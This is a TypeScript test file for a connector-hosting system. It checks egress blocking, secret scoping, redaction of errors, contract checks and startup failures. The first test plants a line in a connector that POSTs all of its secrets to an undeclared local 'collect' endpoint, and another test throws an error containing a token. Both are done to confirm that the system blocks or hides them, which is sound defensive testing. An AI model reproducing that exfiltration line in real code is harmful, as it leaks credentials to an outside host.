import assert from 'node:assert/strict'
import { once } from 'node:events'
import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { test } from 'node:test'
import { addedConnector } from '../added-connector.ts'
import { outputOf } from '../server-process.ts'
import { connect, settledTasks, startTestSystem, type TestSystem } from '../system.ts'
import { readApplication } from './read-application.ts'

test('a connector that asks for a host it did not declare gets a typed error, and nothing is sent there', async () => {
  let asked = 0
  const elsewhere = createServer((_, response) => {
    asked += 1
    response.end('{}')
  }).listen(0, '127.0.0.1')
  await once(elsewhere, 'listening')
  const { port } = elsewhere.address() as AddressInfo
  await using added = await addedConnector('nosy', {
    'api.ts': (text) =>
      text.replace(
        'const { status, body } = await http.send({',
        `if (path.includes('email=')) await http.send({ method: 'POST', url: 'http://127.0.0.1:${port}/collect', json: { ...secrets }, effect: 'write' })\n  const { status, body } = await http.send({`,
      ),
  })
  await using simulator = await added.start()
  await using system = await startTestSystem({ connectorFolders: [added.folder] })
  const { scim } = await connect(system, simulator, { app: 'nosy' })
  const email = 'kim@example.com'
  await system.run('mapping.set', { app: 'nosy', group: 'Everybody', entitlement: 'Member' })
  await scim.post('/Users', { userName: email, emails: [{ value: email }], active: true })
  const [task] = await settledTasks(system)
  assert.deepEqual([task?.state, task?.code, task?.retry], ['needsPerson', 'egressRefused', 'never'])
  assert.match(task?.reason ?? '', new RegExp(`127\\.0\\.0\\.1:${port} is not a host of this application`))
  assert.match(task?.todo ?? '', /only the hosts that it declares/)
  assert.equal(asked, 0)
  elsewhere.close()
})

test('it is handed the secrets it declares, and no other, also when more are stored', async () => {
  const telling = (text: string) =>
    text.replace('vendorAccount: organization', 'vendorAccount: Object.keys(context.secrets).join()')
  const another = "{ name: 'another', label: 'x', help: 'x', required: false, secret: true },"
  await using before = await addedConnector('curious', {
    'connector.ts': telling,
    'settings.ts': (text) => text.replace('settings: readonly SettingField[] = [', `$&${another}`),
  })
  await using after = await addedConnector('curious', { 'connector.ts': telling })
  await using simulator = await before.start()
  const { databaseUrl } = before
  await using first = await startTestSystem({ connectorFolders: [before.folder], databaseUrl })
  const { settings } = simulator
  const secrets = { ...simulator.secrets, another: 'SomethingElse9' }
  const add = (name: string, to: TestSystem) =>
    to.run('app.add', { connector: 'curious', name, settings, secrets })
  const toldBy = async (by: TestSystem) =>
    (await by.run<{ report: { vendorAccount: string } }>('app.check', { app: 'one' })).report.vendorAccount
  await add('one', first)
  assert.equal(await toldBy(first), 'another,token')
  const masterKeyFile = join(first.dataDirectory, 'master.key')
  await using second = await startTestSystem({
    on: { databaseUrl, masterKeyFile },
    connectorFolders: [after.folder],
  })
  assert.equal(await toldBy(second), 'token')
  await assert.rejects(add('two', second), /there is no secret "another"/)
})

test('what breaks in it, or is answered out of shape, becomes an error of the contract without secrets', async () => {
  await using added = await addedConnector('broken', {
    'connector.ts': (text) =>
      text
        .replace(
          "if (email.trim() === '') return undefined",
          "if (email !== '') throw new TypeError('no ' + context.secrets['token'])",
        )
        .replace(
          'return { items, total, ',
          'return { items: items.map((item) => ({ ...item, id: 7 as never })), total, ',
        ),
  })
  await using simulator = await added.start()
  await using system = await startTestSystem({ connectorFolders: [added.folder] })
  const { scim } = await connect(system, simulator, { app: 'broken' })
  const email = 'kim@example.com'
  await scim.post('/Users', { userName: email, emails: [{ value: email }], active: true })
  const [task] = await settledTasks(system)
  assert.deepEqual([task?.state, task?.code], ['needsPerson', 'unexpectedAnswer'])
  assert.match(task?.reason ?? '', /The connector broken did not keep to the contract in findAccount/)
  const logged = JSON.stringify(system.logged)
  assert.ok(
    logged.includes('TypeError: no (hidden)') && !logged.includes(simulator.secrets['token'] ?? 'none'),
  )

  const { state, refusal } = await readApplication(system, 'broken')
  assert.equal(state, 'refused')
  assert.match(refusal?.says ?? '', /did not keep to the contract in listAccounts/)
})

test('a folder that is no connector stops the start, with the reason and what to do', async () => {
  await using added = await addedConnector('twice', {})
  await using named = await addedConnector('adyen', {})
  await using unsound = await addedConnector('unsound', {
    'connector.ts': (text) => text.replace("matchOn: 'email'", "matchOn: 'birthday' as 'email'"),
  })
  await using torn = await addedConnector('torn', { 'account.ts': () => 'export const x =' })
  const empty = join(added.folder, 'simulator')
  for (const [folders, says] of [
    [[empty], /there is no connector\.ts or connector\.js in it/],
    [[added.folder, added.folder], /there is a connector named twice already/],
    [[named.folder], /there is a connector named adyen already/],
    [[unsound.folder], /facts\.matchOn/],
    [[torn.folder], /connector does not load/],
  ] as const) {
    const { code, stderr } = await outputOf(['serve'], {
      OVERLOCK_CONNECTORS: folders.join(','),
      OVERLOCK_DATA: join(added.folder, 'data'),
      DATABASE_URL: added.databaseUrl,
      OVERLOCK_PORT: '0',
    })
    assert.equal(code, 1, stderr)
    assert.match(stderr, says)
    assert.match(stderr, /overlock connector|Give it another name/)
    assert.doesNotMatch(stderr, /\n\s+at /, 'no stack is shown')
  }
})

test('a server that lacks the connector of an application does not take up its work', async () => {
  await using added = await addedConnector('away', {})
  await using simulator = await added.start()
  const { databaseUrl } = added
  await using first = await startTestSystem({ connectorFolders: [added.folder], databaseUrl })
  await connect(first, simulator, { app: 'support' })
  const masterKeyFile = join(first.dataDirectory, 'master.key')
  await assert.rejects(
    startTestSystem({ on: { databaseUrl, masterKeyFile } }),
    /A connector is missing: support needs the connector away/,
  )
  await using again = await startTestSystem({
    on: { databaseUrl, masterKeyFile },
    connectorFolders: [added.folder],
  })
  assert.ok((await again.run<readonly unknown[]>('app.list')).length === 1)
})

test('connector check tells what is broken by its promise, and writes capabilities.json when it is asked to', async () => {
  await using added = await addedConnector('loose', {
    'connector.ts': (text) => text.replace('sameName(account.email, email)', 'account !== undefined'),
  })
  const check = (...more: string[]) => outputOf(['connector', 'check', added.folder, ...more], {})
  await writeFile(join(added.folder, 'capabilities.json'), '{}')
  const stale = await check()
  assert.equal(stale.code, 1)
  assert.match(stale.stdout, /capabilities\.json says what the connector can do +broken/)
  assert.match(stale.stdout, /does NOT keep the contract/)
  const written = JSON.parse((await check('--write', '--json')).stdout) as {
    declarations: { verdict: string }[]
  }
  assert.ok(written.declarations.every(({ verdict }) => verdict === 'passed'))
  const again = await outputOf(['connector', 'new', 'loose', '--folder', added.folder], {})
  assert.equal(again.code, 1)
  assert.match(again.stderr, /There is something at .* already/)
  const unnamed = await outputOf(['connector', 'new', 'My Desk'], {})
  assert.match(unnamed.stderr, /"My Desk" is no name/)
})
